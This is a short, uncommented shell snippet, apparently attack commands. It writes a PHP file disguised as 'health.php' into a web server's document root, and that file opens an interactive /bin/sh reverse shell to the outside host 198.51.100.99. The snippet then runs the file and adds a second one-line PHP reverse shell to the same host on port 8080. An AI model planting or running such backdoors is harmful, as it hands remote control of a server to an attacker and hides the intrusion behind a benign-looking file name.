cat > /var/www/html/health.php <<'P'
<?php
$s = fsockopen("198.51.100.99", 80);
$p = proc_open("/bin/sh -i", [0 => $s, 1 => $s, 2 => $s], $pipes);
P
php /var/www/html/health.php &
php -r '$k=fsockopen("198.51.100.99",8080);exec("/bin/sh -i <&3 >&3 2>&3");'
